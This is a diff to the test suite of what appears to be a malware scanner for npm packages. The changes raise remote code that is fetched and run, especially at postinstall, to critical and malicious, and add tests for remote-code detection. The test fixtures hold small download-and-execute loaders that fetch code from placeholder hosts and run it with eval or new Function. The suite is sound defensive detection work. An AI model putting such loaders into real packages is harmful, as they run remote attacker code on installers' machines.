@@ -16,7 +16,7 @@ describe('dynamic-code reports', () => {
       'package.json': manifest({ scripts: { postinstall: 'node i.js' } }),
       'i.js': "const https = require('https');\nhttps.get('https://payload.invalid/stage2', (res) => {\n  let d = '';\n  res.on('data', (c) => (d += c));\n  res.on('end', () => eval(Buffer.from(d, 'base64').toString('utf8')));\n});",
     });
-    expect(r.of(RULE)).toContainEqual(finding('high', ['dynamic-code:decoded'], { reach: 'install' }));
+    expect(r.of(RULE)).toContainEqual(finding('critical', ['dynamic-code:decoded', 'dynamic-code:remote'], { reach: 'install' }));
     expect(r.verdict).toBe('malicious');
     expect(r.score).toBeGreaterThanOrEqual(90);
   });
@@ -31,13 +31,13 @@ describe('dynamic-code reports', () => {
     expect(r.verdict).not.toBe('clean');
   });
 
-  test('fetching code and running it with new Function at postinstall is at least suspicious', () => {
+  test('fetching code from a hard-coded host and running it with new Function at postinstall is malicious', () => {
     const r = scanFiles({
       'package.json': manifest({ scripts: { postinstall: 'node index.js' } }),
       'index.js': "fetch('https://payload.invalid/p').then((r) => r.text()).then((code) => new Function('require', code)(require));",
     });
-    expect(r.of(RULE)).toEqual([finding('medium', ['dynamic-code'], { message: expect.stringContaining('Function') })]);
-    expect(['suspicious', 'malicious']).toContain(r.verdict);
+    expect(r.of(RULE)).toEqual([finding('critical', ['dynamic-code', 'dynamic-code:remote'], { message: expect.stringContaining('Function') })]);
+    expect(r.verdict).toBe('malicious');
   });
 
   test('vm.runInThisContext on run-time input is medium', () => {
@@ -52,7 +52,7 @@ describe('dynamic-code reports', () => {
 
   test('eval of a constant string is low', () => {
     const r = scanFiles({ 'index.js': "eval('1 + 1');" });
-    expect(r.of(RULE)).toEqual([finding('low', ['dynamic-code'], { message: expect.stringContaining('constant') })]);
+    expect(r.of(RULE)).toEqual([finding('low', ['dynamic-code:visible'], { message: expect.stringContaining('constant') })]);
   });
 
   test('require() of a base64-hidden module name is medium obfuscation', () => {
@@ -131,13 +131,13 @@ describe('dynamic-code: decoded code is what came out of a decoder, where code r
 
   test('a decoded name in a code template is a code generator: low, not decoded', () => {
     const r = scanFiles({ 'index.js': glue });
-    expect(r.of(RULE)).toEqual([finding('low', ['dynamic-code'], { message: expect.stringContaining('template written in literals') })]);
+    expect(r.of(RULE)).toEqual([finding('low', ['dynamic-code:visible'], { message: expect.stringContaining('template written in literals') })]);
     expect(r.of(RULE)[0]?.signals).not.toContain('dynamic-code:decoded');
   });
 
   test('template engines quoting decoded data into a string of the generated code are not decoded code', () => {
     const r = scanFiles({ 'index.js': `module.exports = (enc) => new Function('data', 'return "' + decodeURIComponent(enc) + '" + data;');` });
-    expect(r.of(RULE)).toEqual([finding('low', ['dynamic-code'])]);
+    expect(r.of(RULE)).toEqual([finding('low', ['dynamic-code:visible'])]);
   });
 
   test('its twin, where the decoder output is the code, stays decoded', () => {
@@ -192,5 +192,29 @@ describe('dynamic-code: code written to a file and then run', () => {
   test('writing a generated config file and never running it is not dynamic code', () => {
     const r = scanFiles({ 'index.js': "const fs = require('fs');\nfs.writeFileSync('out/config.js', 'module.exports = {};');\nconsole.log('done');" });
     expect(r.of(RULE)).toEqual([]);
+  });
+});
+
+describe('dynamic-code: code that comes back from a server the package names', () => {
+  test('eval of an axios response from a hard-coded host is remote code, with the path from the response', () => {
+    const r = scanFiles({ 'index.js': "const axios = require('axios');\naxios.get('https://cdn-assets.invalid/v2/init').then((res) => eval(res.data));" });
+    expect(r.of(RULE)).toEqual([finding('critical', ['dynamic-code', 'dynamic-code:remote'], { message: expect.stringContaining('response of axios.get(https://cdn-assets.invalid/v2/init)') })]);
+  });
+
+  test('chunks gathered with `body += chunk` from https.get and run with Function are remote code', () => {
+    const r = scanFiles({
+      'index.js': "require('https').get('https://203.0.113.7/s.js', (res) => { let body = ''; res.on('data', (c) => (body += c)); res.on('end', () => new Function('require', body)(require)); });",
+    });
+    expect(r.of(RULE)).toEqual([finding('critical', ['dynamic-code', 'dynamic-code:remote'], { message: expect.stringContaining('stored into body') })]);
+  });
+
+  test('a module loader running what its caller asks it to fetch is dynamic code, not a download the package chose', () => {
+    const r = scanFiles({ 'index.js': 'module.exports = (url) => fetch(url).then((r) => r.text()).then((src) => (0, eval)(src));' });
+    expect(r.of(RULE)).toEqual([finding('medium', ['dynamic-code'])]);
+  });
+
+  test('a response used as data next to an eval of something else is not remote code', () => {
+    const r = scanFiles({ 'index.js': "fetch('https://api.example.invalid/v1/config').then((r) => r.json()).then((cfg) => console.log(cfg));\nmodule.exports = (expr) => eval(expr);" });
+    expect(r.of(RULE)).toEqual([finding('medium', ['dynamic-code'])]);
   });
 });
